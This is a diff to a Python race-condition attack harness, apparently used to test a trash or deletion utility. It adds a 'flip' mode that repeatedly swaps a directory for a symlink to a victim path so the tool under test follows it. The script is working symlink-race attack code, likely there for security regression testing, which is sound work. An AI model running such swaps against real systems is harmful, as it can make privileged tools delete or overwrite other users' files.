@@ -10,6 +10,12 @@ swaps, until STOPFILE exists or THEIRDIR is gone.
 
 says "ready", then keeps swapping the directory ROOT (someone's trash root, in a
 topdir anyone may write) for a symlink to THEIRS and back, until STOPFILE exists.
+
+    python attacker.py flip THEIRDIR VICTIM FILES STOPFILE
+
+fills THEIRDIR with x0..x<FILES-1> (content ATT), says "ready", then keeps renaming
+THEIRDIR aside, putting a symlink to VICTIM in its place, and renaming it back, with
+no pause, until STOPFILE exists.
 """
 
 import os
@@ -59,10 +65,31 @@ def swaproot(root, theirs, stopfile):
             pass
 
 
+def flip(theirdir, victim, files, stopfile):
+    os.makedirs(theirdir)
+    for i in range(files):
+        with open(os.path.join(theirdir, f"x{i}"), "w") as handle:
+            handle.write("ATT")
+    print("ready", flush=True)
+    away = theirdir + ".r"
+    deadline = time.monotonic() + 60
+    while not os.path.exists(stopfile) and time.monotonic() < deadline:
+        try:
+            os.rename(theirdir, away)
+            os.symlink(victim, theirdir)
+            os.unlink(theirdir)
+            os.rename(away, theirdir)
+        except OSError:
+            pass
+
+
 if __name__ == "__main__":
     command, *args = sys.argv[1:]
     if command == "swap":
         theirdir, victim, files, delay, stopfile = args
         swap(theirdir, victim, int(files), int(delay), stopfile)
+    elif command == "flip":
+        theirdir, victim, files, stopfile = args
+        flip(theirdir, victim, int(files), stopfile)
     elif command == "swaproot":
         swaproot(*args)
